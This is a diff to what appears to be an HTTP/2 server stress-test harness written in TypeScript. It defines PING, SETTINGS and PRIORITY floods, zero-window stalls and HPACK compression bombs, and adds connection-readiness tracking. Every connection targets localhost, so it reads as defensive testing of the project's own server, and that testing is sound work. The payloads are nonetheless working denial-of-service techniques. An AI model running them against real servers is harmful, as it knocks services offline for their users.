@@ -34,19 +34,24 @@ export const ATTACKS: readonly Attack[] = [
   { name: 'PING flood, unread', connections: 16, opening: OPENING, flood: () => repeat(500, () => frame(FrameType.Ping, 0, 0, '12345678')), isDeaf: true },
   { name: 'SETTINGS flood, unread', connections: 16, opening: OPENING, flood: () => repeat(500, () => settingsFrame([[Setting.MaxConcurrentStreams, 1]])), isDeaf: true },
   { name: 'PRIORITY flood', connections: 16, opening: OPENING, flood: () => repeat(500, () => frame(FrameType.Priority, 0, 3, Buffer.from([0, 0, 0, 1, 1]))) },
-  { name: 'zero windows', connections: 10, opening: Buffer.concat([PREFACE, settingsFrame([[Setting.InitialWindowSize, 0]]), repeat(100, (i) => headers(id(0, i), [...REQUEST.slice(0, 2), [':path', '/large'], [':authority', 'a']]))]) },
+  { name: 'zero windows', connections: 10, opening: Buffer.concat([PREFACE, settingsFrame([[Setting.InitialWindowSize, 0]]), repeat(20, (i) => headers(id(0, i), [...REQUEST.slice(0, 2), [':path', '/large'], [':authority', 'a']]))]) },
   { name: 'HPACK bombs', connections: 16, opening: Buffer.concat([OPENING, frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, 1, Buffer.concat([headerBlock(REQUEST), Buffer.from([0x40, 1, 0x78, 0x7f, 0xa0, 0x1e]), Buffer.alloc(127 + 0x20 + (0x1e << 7), 0x61)]))]), flood: (round) => repeat(20, (i) => frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, 3 + 2 * (round * 20 + i), Buffer.concat([headerBlock(REQUEST), Buffer.alloc(10_000, 0xbe)]))) },
 ];
 
 const DRIP_MS = 1000;
 
-/** @returns how many connections were made until `signal` aborted */
-export async function attack(one: Attack, port: number, signal: AbortSignal): Promise<number> {
+/** @param onReady when all connections have been made once @returns how many were made until `signal` aborted */
+export async function attack(one: Attack, port: number, signal: AbortSignal, onReady: () => void): Promise<number> {
   let made = 0;
+  let open = 0;
+  if (one.connections === 0) onReady();
+  const onOpen = (): void => {
+    if (++open === one.connections) onReady();
+  };
   const hold = async (): Promise<void> => {
     while (!signal.aborted) {
       made++;
-      await connectAndHarm(one, port, signal);
+      await connectAndHarm(one, { port, onOpen }, signal);
       // A connection that was refused is not tried again without end.
       await new Promise((resolve) => setTimeout(resolve, 5));
     }
@@ -55,9 +60,9 @@ export async function attack(one: Attack, port: number, signal: AbortSignal): Pr
   return made;
 }
 
-function connectAndHarm(one: Attack, port: number, signal: AbortSignal): Promise<void> {
+function connectAndHarm(one: Attack, to: { port: number; onOpen: () => void }, signal: AbortSignal): Promise<void> {
   return new Promise((resolve) => {
-    const socket = connect(port, '127.0.0.1');
+    const socket = connect(to.port, '127.0.0.1');
     const stop = () => socket.destroy();
     signal.addEventListener('abort', stop, { once: true });
     let drip: NodeJS.Timeout | undefined;
@@ -71,8 +76,10 @@ function connectAndHarm(one: Attack, port: number, signal: AbortSignal): Promise
     else socket.resume();
     socket.on('end', stop);
     socket.on('connect', () => {
+      to.onOpen();
       if (one.opening) socket.write(one.opening);
-      if (one.drip) drip = setInterval(() => socket.write(one.drip ?? ''), DRIP_MS);
+      // Spread over the interval: a thousand drops at one instant would measure the instant.
+      if (one.drip) drip = setTimeout(() => (drip = setInterval(() => socket.write(one.drip ?? ''), DRIP_MS)), Math.random() * DRIP_MS);
       if (one.flood) keepWriting(socket, one.flood);
     });
   });
